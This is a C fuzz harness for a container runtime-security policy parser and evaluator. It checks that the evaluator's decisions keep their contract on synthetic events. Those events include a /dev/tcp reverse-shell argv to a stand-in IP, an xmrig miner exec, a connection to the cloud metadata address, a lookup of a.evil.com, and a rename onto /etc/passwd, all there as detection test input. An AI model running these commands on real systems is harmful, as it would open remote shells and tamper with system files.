/*
 * fuzz_runtime_policy: the runtime policy parser and evaluator (defender/runtime.c) on arbitrary
 * bytes. The input is loaded as JSON (duplicate keys rejected, NUL allowed in strings) and given
 * to runtime_policy_from_json(); when it parses, a fixed set of events (every type, hostile
 * argv) is evaluated against it with a learned-model set that is active at once, and the models
 * are rendered as JSON. The same bytes are also read as a learned-models file (see models_file).
 *
 * runtime.c lives in defender/ and is not in libgarrison.a, which the harnesses link: it is
 * compiled into this harness by inclusion (its only other dependency, the event model, is a
 * header; event.c for the helpers runtime.c calls, event_stdio_connected()).
 *
 * Besides "no crash, no leak", it checks the contract and aborts when broken: a refused document
 * gives -EINVAL (or -ENOMEM), a message and *out NULL; a decision of 1 has an effect of at least
 * alert, an attack type, a message and a rule name; 0 has effect none.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define get_bool event_get_bool /* a static of both event.c and runtime.c */
#include "../../../defender/event.c"
#undef get_bool
#include "../../../defender/runtime.c"

static void fill(struct event *ev, enum event_type t)
{
	memset(ev, 0, sizeof(*ev));
	ev->type = t;
	ev->time_ns = 1795762600000000000ull;
	memcpy(ev->container, "af4f842fa86bf94841d5ec91a2e8e814f5802ada7ccaae0ef996b8be45f85689", 65);
	memcpy(ev->comm, "app", 4);
}

static void check(const struct runtime_policy *p, struct runtime_models *m, const struct event *ev,
		  const struct runtime_workload *w)
{
	struct runtime_decision d;
	int r = runtime_evaluate(p, m, ev, w, &d);

	if (r == 1 && (d.effect < RUNTIME_EFFECT_ALERT || d.attack_type[0] == 0 || d.msg[0] == 0 ||
		       d.rule[0] == 0))
		abort();
	if (r == 0 && d.effect != RUNTIME_EFFECT_NONE)
		abort();
	if (r != 0 && r != 1)
		abort();
}

/* The same bytes as a learned-models file (<data>/runtime-models.json is read back after a
 * restart and is untrusted): refused whole with a message, or loaded; what loads saves and loads
 * again to the same models. */
static void models_file(const json_t *j)
{
	struct runtime_models *m = NULL, *m2 = NULL;
	char err[256] = "unset";
	json_t *saved, *a, *b;
	int r;

	if (runtime_models_new(10, 0, &m) != 0)
		abort();
	r = runtime_models_load_json(m, j, err, sizeof(err));
	if (r != 0) {
		if ((r != -EINVAL && r != -ENOMEM) || (r == -EINVAL && (err[0] == 0 || strcmp(err, "unset") == 0)))
			abort();
		runtime_models_free(m);
		return;
	}
	saved = runtime_models_save_json(m);
	if (saved == NULL || runtime_models_new(10, 0, &m2) != 0)
		abort();
	if (runtime_models_load_json(m2, saved, err, sizeof(err)) != 0)
		abort();
	a = runtime_models_json(m, 1);
	b = runtime_models_json(m2, 1);
	if (a == NULL || b == NULL || !json_equal(a, b))
		abort();
	json_decref(a);
	json_decref(b);
	json_decref(saved);
	runtime_models_free(m);
	runtime_models_free(m2);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct runtime_policy *p = (struct runtime_policy *)(uintptr_t)1;
	struct runtime_models *m = NULL;
	struct runtime_workload w = { .subject = { .container = "web", .image = "nginx:1.25",
		.host = "node-1", .namespace_ = "prod", .cluster = "c1" }, .container_start = 1795762500 };
	struct event ev;
	char err[256] = "unset";
	json_t *j = json_loadb((const char *)data, size, JSON_REJECT_DUPLICATES | JSON_ALLOW_NUL |
			       JSON_DECODE_ANY, NULL);
	int r;

	if (j == NULL)
		return 0;
	models_file(j);
	r = runtime_policy_from_json(j, &p, err, sizeof(err));
	json_decref(j);
	if (r != 0) {
		if ((r != -EINVAL && r != -ENOMEM) || p != NULL || err[0] == 0 || strcmp(err, "unset") == 0)
			abort();
		return 0;
	}
	if (runtime_models_new(0, 0, &m) != 0)
		abort();
	fill(&ev, EVENT_EXEC);
	memcpy(ev.exec.filename, "/tmp/xmrig", 11);
	memset(ev.exec.args, 'a', sizeof(ev.exec.args));
	ev.exec.args_len = (size_t)-1;
	ev.exec.exe_ctime = 1795762600;
	check(p, m, &ev, &w);
	fill(&ev, EVENT_EXEC); /* an alias exec whose argv has no NUL */
	memcpy(ev.exec.filename, "/proc/self/exe", 15);
	memset(ev.exec.args, 'w', sizeof(ev.exec.args));
	ev.exec.args_len = (size_t)-1;
	check(p, m, &ev, &w);
	fill(&ev, EVENT_EXEC);
	memcpy(ev.exec.filename, "/proc/1/exe", 12);
	memcpy(ev.exec.args, "xmrig\0--donate-level", 21);
	ev.exec.args_len = 21;
	check(p, m, &ev, &w);
	fill(&ev, EVENT_EXEC);
	memcpy(ev.exec.filename, "/bin/sh", 8);
	memcpy(ev.exec.args, "sh\0-c\0sh -i >& /dev/tcp/1.2.3.4/1 0>&1", 39);
	ev.exec.args_len = 39;
	check(p, m, &ev, &w);
	fill(&ev, EVENT_CONNECT);
	ev.net.family = 2;
	ev.net.port = 80;
	ev.net.proto = 6;
	memcpy(ev.net.addr, "\xa9\xfe\xa9\xfe", 4);
	check(p, m, &ev, &w);
	fill(&ev, EVENT_LISTEN);
	ev.net.family = 10;
	ev.net.port = 2500;
	ev.net.proto = 6;
	check(p, m, &ev, &w);
	fill(&ev, EVENT_DNS);
	memcpy(ev.dns.qname, "a.evil.com", 11);
	check(p, m, &ev, &w);
	fill(&ev, EVENT_FILE);
	ev.file.op = EVENT_FILE_RENAME;
	memcpy(ev.file.path, "/tmp/x", 7);
	memcpy(ev.file.path2, "/etc/passwd", 12);
	check(p, m, &ev, &w);
	json_decref(runtime_models_json(m, UINT64_MAX));
	runtime_models_free(m);
	runtime_policy_free(p);
	return 0;
}
